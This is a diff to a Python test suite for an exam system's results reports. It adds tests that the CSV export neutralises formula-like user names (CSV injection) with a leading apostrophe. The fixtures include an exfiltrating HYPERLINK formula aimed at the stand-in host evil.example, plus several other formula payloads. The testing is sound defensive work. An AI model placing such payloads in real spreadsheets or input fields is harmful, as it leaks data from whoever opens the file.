@@ -22,6 +22,7 @@ import io
 import json
 import os
 import random
+import re
 import sqlite3
 import time
 import unittest
@@ -51,6 +52,12 @@ CATEGORIES = [("leader", "领导干部"), ("enforcement", "行政执法人员"),
 CAT_NAME = dict(CATEGORIES)
 CAT_ORDER = [c for c, _ in CATEGORIES]
 ODD_NAME = '王,"小"\n明'  # a comma, a quote and a newline
+# Names a spreadsheet would run as a formula (OWASP "CSV injection"): the CSV must show them, not
+# run them. EVIL_NAME starts with '-' and a digit, like a negative number, but is not one.
+EVIL_NAME = '-1+HYPERLINK("https://evil.example/?"&B2,"点击")'
+# (A leading CR is covered by tests/unit/formats/test_csv.c: the XLSX writer stores it as _x000D_.)
+FORMULA_NAMES = {11: "=1+1", 12: "+1", 13: "@SUM(A1)", 14: "\t=1+1", 16: "-A1",
+                 17: "-5", 18: "-0.5"}  # the last two are plain numbers: they stay bare
 STATUS_ZH = {"not_started": "未参加", "in_progress": "进行中", "submitted": "已交卷"}
 
 
@@ -116,6 +123,14 @@ def person(u, attempts):
 def people(users, attempts, exam):
     ps = [person(u, [a for a in attempts if a["exam"] == exam["code"]]) for u in assigned_users(users, exam)]
     return sorted(ps, key=lambda p: (p["org"], p["login"]))
+
+
+def csv_shown(text):
+    """What the results CSV must hold for a person-typed cell: a leading apostrophe on anything
+    starting with = + @ tab CR, or with '-' unless the whole cell is a plain number."""
+    if text and (text[0] in "=+@\t\r" or (text[0] == "-" and not re.fullmatch(r"-[0-9]+(\.[0-9]+)?", text))):
+        return "'" + text
+    return text
 
 
 def permille(num, den):
@@ -201,6 +216,7 @@ class ReportsTest(L.TestCase):
         cls.takers = ["ex1", "ex2", "ex3", "ex4", "ex5"]           # take the exam through the API
         for i, login in enumerate(cls.takers):
             add(login, "甲区/司法局/法制股", "leader" if i % 2 else "general", 1)
+        add("evil1", "甲区/司法局/办公室", "general", 1, name=EVIL_NAME)  # through `user add`
 
         bank = os.path.join(srv.dir, "bank.json")
         with open(bank, "w", encoding="utf-8") as f:
@@ -290,8 +306,8 @@ class ReportsTest(L.TestCase):
             r = rnd.random()
             roles = 1 if r < 0.9 else 5 if r < 0.94 else 4 if r < 0.97 else 2
             disabled = 1 if rnd.random() < 0.03 else 0
-            name = ODD_NAME if i == 7 else "职工%04d" % i
-            if i == 7:
+            name = ODD_NAME if i == 7 else FORMULA_NAMES.get(i, "职工%04d" % i)
+            if i == 7 or i in FORMULA_NAMES:
                 org, category, roles, disabled = "甲区/司法局/办公室", "general", 1, 0
             cur.execute("INSERT INTO users(login, name, org_id, category, roles, pw_hash, must_change_password,"
                         " disabled, created_at, updated_at) VALUES(?,?,?,?,?,?,0,?,?,?)",
@@ -522,7 +538,7 @@ class ReportsTest(L.TestCase):
         self.assertEqual(len(got), len(ps) + 1)
         for row, p in zip(got[1:], ps):
             sub = p["status"] == "submitted"
-            self.assertEqual(row[:5], [p["login"], p["name"], p["org"], CAT_NAME[p["category"]],
+            self.assertEqual(row[:5], [p["login"], csv_shown(p["name"]), p["org"], CAT_NAME[p["category"]],
                                        STATUS_ZH[p["status"]]])
             self.assertEqual(row[5], fmt_score2(p["score2"]) if sub else "")
             self.assertEqual(row[6], ("是" if p["passed"] else "否") if sub else "")
@@ -531,8 +547,17 @@ class ReportsTest(L.TestCase):
             else:
                 self.assertEqual(row[7], "")
         self.assertIn(b'"' + ODD_NAME.replace('"', '""').encode() + b'"', data)
+        # formula-like names are neutralised (and every one of them is in the report)
+        names = {r[1] for r in got[1:]}
+        for name in [EVIL_NAME] + list(FORMULA_NAMES.values()):
+            self.assertIn(csv_shown(name), names, "name %r" % name)
+        self.assertIn(b"\"'-1+HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"\xe7\x82\xb9\xe5\x87\xbb\"\")\"", data)
+        self.assertIn(b"\r\nS0017,-5,", data)
+        for ch in "=+@\t\r-":
+            self.assertFalse(any(r[1].startswith(ch) for r in got[1:] if r[1] not in ("-5", "-0.5")),
+                             "a name starting with %r is bare in the CSV" % ch)
 
-    @unittest.skipIf(openpyxl is None, "python3-openpyxl is not installed")
+    @L.requires(openpyxl is not None, "python3-openpyxl is not installed (Debian: python3-openpyxl)")
     def test_pass_rates_xlsx(self):
         data = self.download("/api/v1/reports/%s/pass-rates?by=category&format=xlsx" % EXAM,
                              "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
@@ -566,7 +591,7 @@ class ReportsTest(L.TestCase):
             self.assertGreaterEqual(ws.column_dimensions[col].width, 8)
         self.assertGreaterEqual(ws.column_dimensions["B"].width, 12)  # 行政执法人员 fits
 
-    @unittest.skipIf(openpyxl is None, "python3-openpyxl is not installed")
+    @L.requires(openpyxl is not None, "python3-openpyxl is not installed (Debian: python3-openpyxl)")
     def test_results_xlsx(self):
         data = self.download("/api/v1/reports/%s/results?format=xlsx" % EXAM,
                              "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
